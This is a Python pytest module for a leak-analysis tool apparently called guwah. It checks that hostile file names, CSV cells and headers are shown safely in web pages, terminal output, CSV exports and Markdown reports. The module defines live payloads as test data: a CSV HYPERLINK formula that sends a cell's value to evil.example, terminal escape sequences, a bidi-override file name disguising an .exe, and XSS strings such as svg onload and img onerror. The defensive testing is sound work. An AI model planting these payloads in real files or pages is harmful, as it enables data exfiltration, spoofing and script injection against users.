"""Leaked text is hostile wherever it is shown: web pages, terminals, Markdown, CSV.

One real case of a small hostile leak (file names with bidi overrides and terminal escapes,
spreadsheet cells that are formulas, headers that are HTML), ingested, read into records and
verified by the real stages; then every output is read back as its consumer would read it.
"""

from __future__ import annotations

import csv
import io
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from PIL import Image

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from guwah.case import Case
from guwah.ingest.executor import ProcessExecutor
from guwah.ingest.pipeline import ingest
from guwah.records.stage import build_records
from guwah.search.stage import build_index
from guwah.textsafe import csv_cell, csv_uncell, md_cell, md_code, visible_controls
from guwah.verify.stage import run_checks
from guwah.web.app import create_app
from tests.conftest import run_cli

RLO = "\u202e"
BIDI_NAME = f"invoice{RLO}gpj.exe"
ESC_NAME = "\x1b]8;;https:evil.example\x07click-me\x1b]8;;\x07\x1b[2J.txt"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
HTML_HEADER = "<svg onload=alert(1)>"
# A published GB 11643 test vector (python-stdnum's): valid check digit.
VALID_ID = "360426199101010071"
# python-stdnum's vector with a bad check digit, in a photo name that is also HTML.
BAD_ID_PHOTO = '<img src=x onerror="alert(1)">_36042619910102009X_20180301093000.jpg'


def _jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (32, 24), (90, 20, 200)).save(buf, "JPEG")
    return buf.getvalue()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Case:
    root = tmp_path_factory.mktemp("hostile")
    leak = root / "leak"
    leak.mkdir()
    (leak / BIDI_NAME).write_text("invoice text\n", encoding="utf-8")
    (leak / ESC_NAME).write_text("click-me payload\n", encoding="utf-8")
    (leak / BAD_ID_PHOTO).write_bytes(_jpeg())
    rows = [
        ["姓名", "身份证号", HTML_HEADER],
        [FORMULA, VALID_ID, "x"],
        [f"艾{RLO}尔肯", "44011320141005001X", "y"],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (leak / "名单.csv").write_text(buf.getvalue(), encoding="utf-8")
    case = Case.init(root / "case")
    executor = ProcessExecutor(workers=2)
    try:
        ingest(case, [leak], executor=executor)
        build_records(case)
        run_checks(case, executor=executor)
    finally:
        executor.close()
    build_index(case)
    return case


@pytest.fixture(scope="module")
def client(hostile: Case) -> Iterator[TestClient]:
    with TestClient(create_app(hostile), base_url="http://127.0.0.1:8000") as c:
        yield c


def _sha_of(client: TestClient, word: str) -> str:
    r = client.get("/api/search", params={"q": f"path:{word}"})
    assert r.status_code == 200, r.text
    return str(r.json()["hits"][0]["sha256"])


def test_bidi_override_in_a_file_name_is_shown_not_obeyed(client: TestClient) -> None:
    sha = _sha_of(client, "invoice")
    for url in (f"/items/{sha}", "/search?q=invoice"):
        page = client.get(url)
        assert page.status_code == 200
        assert RLO not in page.text, url
        assert "invoice⟨U+202E⟩gpj.exe" in page.text, url


def test_bidi_override_in_a_record_value_is_shown_not_obeyed(client: TestClient) -> None:
    people = client.get("/api/people", params={"q": "44011320141005001X"}).json()
    assert people, "the person of the second row is found by ID number"
    page = client.get(f"/people/{people[0]['person']['id']}")
    assert page.status_code == 200
    assert RLO not in page.text
    assert "艾⟨U+202E⟩尔肯" in page.text


def test_terminal_escapes_in_file_names_never_reach_the_terminal(hostile: Case) -> None:
    out = run_cli("search", "click", "--case", hostile.root).stdout
    assert "click" in out
    assert "\x1b" not in out and "\x07" not in out
    assert "⟨U+001B⟩" in out


def test_verify_output_shows_control_characters_visibly(hostile: Case) -> None:
    out = run_cli("verify", "--case", hostile.root, check=False).stdout
    assert "\x1b" not in out and RLO not in out


def test_records_export_neutralises_formulas_and_keeps_them_recoverable(
    hostile: Case, tmp_path: Path
) -> None:
    out = tmp_path / "records.csv"
    run_cli("records", "export", out, "--case", hostile.root)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = [r["name"] for r in rows]
    assert "'" + FORMULA in names
    assert not any(str(v).startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert csv_uncell("'" + FORMULA) == FORMULA


def test_csv_cell_rule_is_reversible_for_every_start() -> None:
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "'quoted", "plain", ""):
        written = csv_cell(value)
        assert not str(written).startswith(("=", "+", "-", "@", "\t", "\r"))
        assert csv_uncell(str(written)) == value


def _html_of_markdown(text: str) -> str:
    return str(MarkdownIt("commonmark").enable("table").render(text))


def test_records_report_markdown_carries_no_raw_html(hostile: Case, tmp_path: Path) -> None:
    out = tmp_path / "mapping.md"
    run_cli("records", "report", "--out", out, "--case", hostile.root)
    md = out.read_text(encoding="utf-8")
    rendered = _html_of_markdown(md)
    assert "<svg" not in rendered and "&lt;svg onload=alert(1)&gt;" in rendered


def test_verify_report_markdown_carries_no_raw_html(hostile: Case, tmp_path: Path) -> None:
    out = tmp_path / "verify.md"
    run_cli("verify", "--case", hostile.root, "--report", out, check=False)
    rendered = _html_of_markdown(out.read_text(encoding="utf-8"))
    assert "36042619910102009X" in rendered, "the bad check digit is reported"
    assert "<img" not in rendered and "onerror" in rendered


def test_verify_report_html_shows_controls(hostile: Case, tmp_path: Path) -> None:
    out = tmp_path / "verify.html"
    run_cli("verify", "--case", hostile.root, "--report", out, check=False)
    html = out.read_text(encoding="utf-8")
    assert RLO not in html and "\x1b" not in html


def test_markdown_helpers_against_a_real_renderer() -> None:
    hostile = [
        "<img src=x onerror=alert(1)>",
        "a|b\n| c",
        "`code` <b>",
        "``x``",
        "[x](javascript:y)",
    ]
    for value in hostile:
        cell = _html_of_markdown(f"| h |\n|---|\n| {md_cell(value)} |\n")
        assert "<img" not in cell and "<b>" not in cell and "href" not in cell
        assert cell.count("<td>") == 1, cell
        code = _html_of_markdown(f"x {md_code(value)} y")
        assert "<img" not in code and "<b>" not in code and "href" not in code
    assert visible_controls("a\u202eb\x1bc\u2066d") == "a⟨U+202E⟩b⟨U+001B⟩c⟨U+2066⟩d"
